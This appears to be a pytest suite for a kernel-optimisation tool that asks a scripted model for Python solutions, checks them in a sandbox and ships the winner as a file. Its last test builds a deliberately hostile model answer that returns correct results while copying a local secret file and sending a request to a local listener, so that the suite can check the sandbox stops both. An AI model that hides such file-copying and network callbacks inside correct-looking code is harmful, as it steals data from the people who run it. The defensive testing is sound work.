"""A coder that answers with Python: judged and timed as a guest, a candidate of the whole task, shipped as the file that it is."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from command import ROOT, Home
from scripted_model import asked_for, last_of, model_toml, script, words_of
from test_models import listener, server

#: No kernel of a region can leave the sort out; whoever writes the whole task can.
TASK = """import torch
from torch import nn

GAIN = 2.0

class Model(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.shift = nn.Parameter(torch.randn(width))

    def forward(self, x):
        return torch.sort(x + self.shift, dim=1)[0][:, 0] * GAIN

def get_inputs():
    return [torch.randn(64, 4096)]

def get_init_inputs():
    return [4096]
"""

#: As KernelBench's are written: what the task's file names is at hand. `tilelang` is a stand-in of ours.
NEW = """import tilelang

class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.shift = nn.Parameter(torch.randn(width))

    def forward(self, x):
        return tilelang.least(x + self.shift) * GAIN
"""
EDIT = """<<<<<<< SEARCH
        return tilelang.least(x + self.shift) * GAIN
=======
        y = x + self.shift
        return tilelang.least(y) * GAIN
>>>>>>> REPLACE
"""
#: NaN counts as the largest, as where all are sorted.
STAND_IN = "import torch\n\ndef least(x):\n    return torch.topk(x, 1, dim=1, largest=False)[0][:, 0]\n"


def fenced(code: str) -> str:
    return f"Here it is.\n```python\n{code}```\n"


class Run(NamedTuple):
    home: Home
    result: dict[str, Any]
    bodies: list[dict[str, Any]]
    env: dict[str, str]


def answers(body: dict[str, Any]) -> str:
    """Python for the whole task: one that fails, a wrong one, a right one, and an edit of that."""
    if "This part is the whole task" not in words_of(body):
        return fenced(NEW)  # where nothing but kernels would do
    turn = sum(1 for m in body["messages"] if m["role"] == "assistant")
    if turn == 0:
        return fenced(NEW.replace("import tilelang", "import no_such_module"))
    if turn == 1:
        return fenced(NEW.replace("* GAIN", "* 2.001"))
    if turn == 2:
        return fenced(NEW)
    return EDIT


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    home = Home(tmp_path_factory.mktemp("solutions"))
    stand_in = home.path / "packages" / "tilelang"
    stand_in.mkdir(parents=True)
    (stand_in / "__init__.py").write_text(STAND_IN)
    env = {"PYTHONPATH": str(stand_in.parent)}
    with server(script(answers)) as (address, bodies):
        (home.path / "planish.toml").write_text(model_toml(address))
        command = ("--target", "cpu", "--baselines", "eager", "--budget", "0s", "--strategy", "refine", "--turns", "4", "--out", "out")
        _, result = home.document("optimize", home.task(TASK), *command, env=env, timeout=600)
    return Run(home, result, [b for b in bodies if asked_for(b) == "code"], env)


def of_the_whole(run: Run) -> list[dict[str, Any]]:
    return [b for b in run.bodies if "This part is the whole task" in words_of(b)]


def test_the_prompt_of_the_whole_task_says_what_a_file_may_hold(run: Run) -> None:
    whole = of_the_whole(run)
    assert whole and len(whole) < len(run.bodies), "regions are no place for a file"
    words = words_of(whole[0])
    assert "class ModelNew(nn.Module)" in words and TASK in words
    assert "TileLang (import tilelang)" in words, "what could be imported"
    assert "ThunderKittens" not in words, "what could not"
    others = [b for b in run.bodies if "This part is the whole task" not in words_of(b)]
    assert all("class ModelNew" not in str(b["messages"][0]["content"]) for b in others)


def test_each_answer_is_judged_as_a_guest(run: Run) -> None:
    said = [last_of(b) for b in of_the_whole(run)]
    assert "No module named 'no_such_module'" in said[1] and "load_failed" in said[1], said[1]
    assert "Your last program: wrong" in said[2], said[2]
    assert re.search(r"Your last program: ok, [0-9.]+ ms", said[3]), said[3]
    rows = [e for e in run.home.document("show", run.result["run"])[1]["evaluations"] if e["region"] == "task" and e["asked"] >= 0 and e["level"] == "screen"]
    assert [e["outcome"] for e in rows] == ["load_failed", "wrong", "ok", "ok"], rows
    assert [e["genome"].split()[0] for e in rows] == ["source", "source", "source", "patch"]
    assert rows[2]["median_ms"] > 0
    shown = run.home.run("show", run.result["run"], rows[3]["program"][:16]).stdout
    assert "y = x + self.shift" in shown and "class ModelNew" in shown


def test_a_region_takes_no_file(run: Run) -> None:
    turns = run.home.document("show", run.result["run"])[1]["turns"]
    refused = [t["error"] for t in turns if t["region"] != "task" and t["error"]]
    assert refused and all("stands for the whole task" in e for e in refused), turns


def test_the_run_is_derived_again_without_asking_anybody(run: Run) -> None:
    code, again = run.home.document("show", run.result["run"], "--replay")
    assert code == 0 and again["same"], again


def test_what_wins_ships_as_the_file_that_it_is(run: Run) -> None:
    folder = Path(run.result["shipped"])
    assert run.result["outcome"] == "improved" and run.result["form"] == "solution", run.result
    assert run.result["speedup"]["eager"] > 2 and run.result["headline"]["speedup"] > 2, run.result
    assert "class ModelNew" in (folder / "solution.py").read_text()
    assert sorted(p.name for p in folder.iterdir()) == ["evidence.json", "reference.py", "ship.json", "solution.py"], "nothing that runs by itself"
    evidence = json.loads((folder / "evidence.json").read_text())
    assert evidence["accuracy"]["verified"] and evidence["sandbox"] is not None and "solution_sha256" in evidence
    assert {"eager", "shipped"} <= set(evidence["times"]), evidence["times"]
    assert any(n["kind"] == "foreign_code" for n in run.result["accuracy"]["notes"]), run.result["accuracy"]["notes"]
    code, proof = run.home.document("verify", "task.py", str(folder), "--seeds", "1", env=run.env)
    assert code == 0 and proof["verified"] and proof["sandbox"] is not None, proof


def test_it_is_imported_by_nobody_who_does_not_say_so(run: Run) -> None:
    folder = Path(run.result["shipped"])
    program = f"""import torch, planish
try:
    planish.load({str(folder)!r})
    raise SystemExit("it was imported")
except planish.PlanishError as error:
    print(error.kind)
try:
    planish.load({str(folder)!r}, torch.nn.ReLU(), foreign=True)
except planish.PlanishError as error:
    print(error.kind)
model = planish.load({str(folder)!r}, foreign=True)
x = torch.randn(64, 4096)
print(torch.allclose(model(x), (x + model.shift).amin(1) * 2))
"""
    env = run.home.environment({"PYTHONPATH": f"{ROOT / 'python'}{os.pathsep}{run.env['PYTHONPATH']}"})
    done = subprocess.run([sys.executable, "-c", program], env=env, capture_output=True, text=True, check=False)
    assert done.stdout.split() == ["foreign_code", "bad_request", "True"], done.stdout + done.stderr
    for form in ("file", "source"):
        code, refused = run.home.document("export", str(folder), "--form", form, "--out", f"exported-{form}")
        assert code != 0 and refused["error"]["kind"] == "foreign_code" and "solution.py" in refused["error"]["hint"], refused
    assert run.home.run("export", str(folder), "--form", "folder", "--out", "elsewhere").returncode == 0
    text = (folder / "solution.py").read_text()
    (run.home.path / "elsewhere" / "solution.py").write_text(text + "# changed\n")
    code, altered = run.home.document("verify", "task.py", "elsewhere", env=run.env)
    assert code == 1 and "altered" in altered["message"], altered


def hostile(home: Home, port: int) -> str:
    """Right results, and beside them everything that is not a module's business."""
    return NEW.replace("import tilelang\n", "import socket\nfrom pathlib import Path\n").replace(
        "        return tilelang.least(x + self.shift) * GAIN\n",
        f"""        for harm in (self.copies, self.calls):
            try:
                harm()
            except OSError:
                pass
        return torch.topk(x + self.shift, 1, dim=1, largest=False)[0][:, 0] * GAIN

    def copies(self):
        Path("{home.path}/stolen").write_text(Path("{home.path}/secret").read_text())

    def calls(self):
        with socket.create_connection(("127.0.0.1", {port}), 2) as out:
            out.sendall(b"GET /stolen HTTP/1.1\\r\\n\\r\\n")
""",
    )


def test_python_that_reads_files_and_opens_sockets_takes_nothing_away(tmp_path_factory: pytest.TempPathFactory) -> None:
    home = Home(tmp_path_factory.mktemp("hostile"))
    (home.path / "secret").write_text("a secret")
    heard: list[str] = []

    with server(listener(heard)) as (address, _):
        port = int(address.rsplit(":", 1)[1])

        def say(body: dict[str, Any]) -> str:
            return fenced(hostile(home, port)) if "This part is the whole task" in words_of(body) else "I have nothing for this part."

        with server(script(say)) as (model, _):
            (home.path / "planish.toml").write_text(model_toml(model))
            command = ("--target", "cpu", "--search-only", "--budget", "0s", "--strategy", "one-shot")
            code, result = home.document("optimize", home.task(TASK), *command, timeout=600)
    assert code == 0, result
    rows = [e for e in home.document("show", result["run"])[1]["evaluations"] if e["region"] == "task" and e["asked"] >= 0]
    assert rows and {e["outcome"] for e in rows} == {"ok"}, rows
    assert not (home.path / "stolen").exists() and not heard
